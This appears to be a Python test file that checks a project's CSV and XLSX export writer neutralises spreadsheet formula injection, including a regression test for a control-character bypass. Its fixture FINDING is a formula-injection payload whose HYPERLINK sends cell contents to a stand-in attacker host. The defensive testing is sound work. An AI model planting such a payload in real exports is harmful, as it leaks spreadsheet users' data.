"""The one export writer (critmat.exports): no exported cell reads back as a formula.

Issue 8, finding 4: a cell beginning with a control character (``"\\x01=HYPERLINK(...)"``) passed
the check, the control character was then stripped for XLSX and the downloaded workbook held a
live formula. The property tests write generated strings (control characters, unicode, white
space, formula starts) as CSV and XLSX, read them back (openpyxl, the csv module) and check that
no cell is a formula nor starts like one; numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from critmat import exports
from critmat.api import stats_export
from critmat.web import tables

FINDING = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"click")'

#: What a spreadsheet may run: a formula character first, or after leading white space and
#: control characters (which a program may drop on input). Written independently of the code.
_DANGEROUS = re.compile(r"[\x00-\x20\x7f\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
_CONTROL = "".join(chr(c) for c in range(0x20)) + "\x7f"

formula_starts = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20", ""])
prefixes = st.text(alphabet=_CONTROL + " \u00a0\u2003\u3000\ufeff", max_size=4)
bodies = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)),  # any code point but surrogates
    max_size=30,
)
hostile_text = st.one_of(
    st.builds(lambda p, f, b: p + f + b, prefixes, formula_starts, bodies),
    bodies,
    st.just(FINDING),
)
numbers = st.one_of(
    st.integers(min_value=-(2**53), max_value=2**53),
    # openpyxl writes 16 significant digits: values next to the float maximum read back as inf
    st.floats(min_value=-1e300, max_value=1e300),
)


def dangerous(text: str) -> bool:
    """Whether a cell's text could be run as a formula by a spreadsheet program."""
    return bool(_DANGEROUS.match(text))


def expected_text(value: str) -> set[str]:
    """The texts a neutralised cell may read back as: the cleaned text, or it behind an '."""
    cleaned = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", value)
    return {cleaned, "'" + cleaned}


def xlsx_cells(body: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(body))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def csv_fields(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@settings(max_examples=150, deadline=None)
@given(st.lists(hostile_text, min_size=1, max_size=8))
def test_no_generated_text_reads_back_as_a_formula(texts: list[str]) -> None:
    # the texts as header, as a data row and as the about sheet's lines
    body = exports.to_xlsx([exports.Sheet("data", texts, [texts])], [(t, t) for t in texts])
    book = load_workbook(io.BytesIO(body))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert not (isinstance(cell.value, str) and dangerous(cell.value)), cell.value
    read = [cell.value for cell in book["data"][2]][: len(texts)]
    read += [None] * (len(texts) - len(read))
    for original, value in zip(texts, read, strict=True):
        # nothing changed but the control characters removed and an apostrophe added
        assert _same_text(value, expected_text(original)), (original, value)
    header, row = csv_fields(exports.to_csv(texts, [texts]))
    for field, original in zip(row, texts, strict=True):
        assert not dangerous(field), repr(field)
        assert field in expected_text(original)
    assert not any(dangerous(field) for field in header)


def _same_text(value: object, allowed: set[str]) -> bool:
    """XLSX reads an empty text back as None and a carriage return as a line feed."""
    text = "" if value is None else str(value)
    return text.replace("\r", "\n") in {
        a.replace("\r\n", "\n").replace("\r", "\n") for a in allowed
    }


@settings(max_examples=100, deadline=None)
@given(st.lists(numbers, min_size=1, max_size=6))
def test_numbers_stay_numbers(values: list[float]) -> None:
    header = [f"c{i}" for i in range(len(values))]
    book = load_workbook(io.BytesIO(exports.to_xlsx([exports.Sheet("d", header, [values])])))
    row = next(book["d"].iter_rows(min_row=2))
    for original, cell in zip(values, row, strict=True):
        assert cell.data_type == "n" and cell.value == pytest.approx(original, rel=1e-15)
    [_, fields] = csv_fields(exports.to_csv(header, [values]))
    for original, field in zip(values, fields, strict=True):
        assert float(field) == original


def test_the_finding_itself() -> None:
    """The exact cell of the finding: stripped of its control character, shown as text."""
    assert exports.neutralise(FINDING) == "'" + FINDING[1:]
    [(value, data_type)] = [
        c for c in xlsx_cells(exports.to_xlsx([exports.Sheet("d", ["x"], [[FINDING]])]))[1:]
    ]
    assert data_type == "s" and value == "'" + FINDING[1:]
    assert csv_fields(exports.to_csv(["x"], [[FINDING]]))[1] == ["'" + FINDING[1:]]


def test_cells_that_are_not_text() -> None:
    assert exports.cell(-1.5) == -1.5 and exports.cell(3) == 3 and exports.cell(True) is True
    assert exports.cell(float("nan")) is None and exports.cell(math.inf) is None
    assert exports.cell(["DEU", "=1", None]) == "DEU;'=1;"
    assert exports.cell(" -1") == "' -1"  # text, not a number: neutralised
    assert exports.cell("a-b") == "a-b" and exports.cell("") == ""


def test_every_table_writer_goes_through_the_one_module() -> None:
    """The API tables, the web tables and the stress CSV file all neutralise the finding."""
    api_table = stats_export.Table(["name", "amount"], [{"name": FINDING, "amount": -3.0}], "t")
    web_table = tables.Table(
        name="t",
        title=FINDING,
        columns=[tables.Column("name", "name"), tables.Column("v", "v", "share")],
        rows=[{"name": FINDING, "v": -0.25}],
        source=FINDING,
    )
    for body in (stats_export.to_xlsx(api_table), tables.to_xlsx(web_table)):
        cells = xlsx_cells(body)
        assert all(t != "f" for _v, t in cells)
        assert "'" + FINDING[1:] in [v for v, _t in cells]
        assert -3.0 in [v for v, _t in cells] or -0.25 in [v for v, _t in cells]
    for body in (stats_export.to_csv(api_table), tables.to_csv(web_table)):
        assert csv_fields(body)[1][0] == "'" + FINDING[1:]


def test_stress_csv_file_is_neutralised(tmp_path: Path) -> None:
    from critmat.commands.stress import _write_csv

    path = tmp_path / "monthly.csv"
    _write_csv(path, [{"importer": FINDING, "shortfall_t": -1.5}])
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["importer", "shortfall_t"], ["'" + FINDING[1:], "-1.5"]]


# ------------------------------------------------------------------ the finding, end to end
def test_finding_through_the_api_and_the_web_report(tmp_path: Path, real_data_dir: Path) -> None:
    """A supplier named ``\\x01=HYPERLINK(...)`` in an upload: the API ``?format=xlsx`` and the
    web ``report.xlsx`` hold it as text (the control character stripped, an apostrophe first)."""
    from fastapi.testclient import TestClient

    from critmat.api.app import create_app
    from tests.api.conftest import bearer, login
    from tests.platform_support import seed_platform

    (tmp_path / "critmat.duckdb").symlink_to(real_data_dir / "critmat.duckdb")
    seeded = seed_platform(tmp_path)
    org = seeded.orgs["a"]
    supplier = FINDING.replace('"', '""')
    upload = (
        f'material,quantity,unit,supplier,supplier country\ncobalt oxide,10,t,"{supplier}",FIN\n'
    ).encode()
    with TestClient(create_app(seeded.settings), follow_redirects=False) as client:
        auth = bearer(client, seeded.users["company@a"])
        created = client.post(
            f"/api/v1/orgs/{org}/assessments",
            files={"file": ("lines.csv", upload, "text/csv")},
            data={"name": FINDING, "year": "2023"},
            headers=auth,
        )
        assert created.status_code == 201, created.text
        assessment = created.json()["id"]
        api = client.get(
            f"/api/v1/orgs/{org}/assessments/{assessment}", params={"format": "xlsx"}, headers=auth
        )
        login(client, seeded.users["company@a"])
        web = client.get(f"/orgs/{org}/assessments/{assessment}/report.xlsx")
    for response in (api, web):
        assert response.status_code == 200
        cells = xlsx_cells(response.content)
        assert all(data_type != "f" for _v, data_type in cells)
        texts = [v for v, _t in cells if isinstance(v, str)]
        assert not any(dangerous(t) for t in texts)
        assert "'" + FINDING[1:] in texts  # the supplier, and the assessment's name in about
